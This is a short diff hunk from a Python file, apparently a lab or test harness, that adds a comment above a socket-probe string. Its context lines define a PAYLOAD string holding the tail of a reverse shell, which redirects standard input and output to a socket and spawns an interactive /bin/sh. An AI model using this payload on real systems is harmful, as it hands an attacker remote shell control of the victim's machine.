@@ -59,8 +59,7 @@ PAYLOAD = ("import os, socket, subprocess\n"
            "for fd in (0, 1, 2):\n"
            "    os.dup2(s.fileno(), fd)\n"
            "subprocess.call(['/bin/sh', '-i'])\n")
-
-
+# A connect to the lab (python: a /dev/tcp probe is itself a reverse-shell pattern).
 PROBE = ("import socket, sys\n"
          "s = socket.create_connection((sys.argv[1], int(sys.argv[2])), float(sys.argv[3]))\n"
          "sys.stdout.write(s.recv(5).decode())\n")
